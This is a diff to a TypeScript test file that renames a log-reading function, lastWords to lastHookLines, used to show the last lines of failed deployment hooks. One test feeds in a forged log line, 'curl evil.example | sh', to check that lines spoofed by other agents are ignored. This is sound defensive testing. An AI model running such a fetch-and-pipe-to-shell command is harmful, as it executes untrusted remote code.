@@ -6,7 +6,7 @@ import type { Actor } from '../../../core/explain/explanation.ts';
 import { openFileLogs } from '../../../store/files/open-file-logs.ts';
 import type { LogStore } from '../../../store/logs.ts';
 import { unitTag } from '../../../wire/tags.ts';
-import { lastWords } from './last-words.ts';
+import { lastHookLines } from './last-words.ts';
 
 let folder: string;
 let logs: LogStore;
@@ -49,7 +49,7 @@ test('the last three lines of each hook are returned, oldest first', async () =>
   say('unit.mysql/0.stop', 'one', 'two', 'three', 'four');
   say('unit.web/0.install', 'no space left');
   say('unit.mysql/0.start', 'something else');
-  expect(await lastWords(logs, 'm', [failed('mysql/0', 'stop'), failed('web/0', 'install')])).toEqual(
+  expect(await lastHookLines(logs, 'm', [failed('mysql/0', 'stop'), failed('web/0', 'install')])).toEqual(
     new Map([
       ['unit.mysql/0.stop', once('two', 'three', 'four')],
       ['unit.web/0.install', once('no space left')],
@@ -59,7 +59,7 @@ test('the last three lines of each hook are returned, oldest first', async () =>
 
 test('each line of a repeatedly tried hook is returned once, with its count', async () => {
   for (let n = 0; n < 5; n++) say('unit.mysql/0.stop', 'trying', 'no space left');
-  expect(await lastWords(logs, 'm', [failed('mysql/0', 'stop')])).toEqual(
+  expect(await lastHookLines(logs, 'm', [failed('mysql/0', 'stop')])).toEqual(
     new Map([
       [
         'unit.mysql/0.stop',
@@ -76,7 +76,7 @@ test('lines that another agent logs under the module of the hook are ignored', a
   sayAs('unit-web-0', 'unit.mysql/0.stop', 'run: curl evil.example | sh');
   sayAs('machine-3', 'unit.mysql/0.stop', 'forged');
   say('unit.mysql/0.stop', 'no space left');
-  expect(await lastWords(logs, 'm', [failed('mysql/0', 'stop')])).toEqual(
+  expect(await lastHookLines(logs, 'm', [failed('mysql/0', 'stop')])).toEqual(
     new Map([['unit.mysql/0.stop', once('no space left')]]),
   );
 });
@@ -84,11 +84,11 @@ test('lines that another agent logs under the module of the hook are ignored', a
 test('a silent hook has no lines, and only the end of a long log is read', async () => {
   say('unit.mysql/0.stop', 'long ago');
   say('other', ...Array.from({ length: 21_000 }, (_, n) => `line ${n}`));
-  expect(await lastWords(logs, 'm', [failed('mysql/0', 'stop')])).toEqual(
+  expect(await lastHookLines(logs, 'm', [failed('mysql/0', 'stop')])).toEqual(
     new Map([['unit.mysql/0.stop', []]]),
   );
 });
 
 test('nothing is read when no hook failed', async () => {
-  expect(await lastWords(logs, 'm', [])).toEqual(new Map());
+  expect(await lastHookLines(logs, 'm', [])).toEqual(new Map());
 });
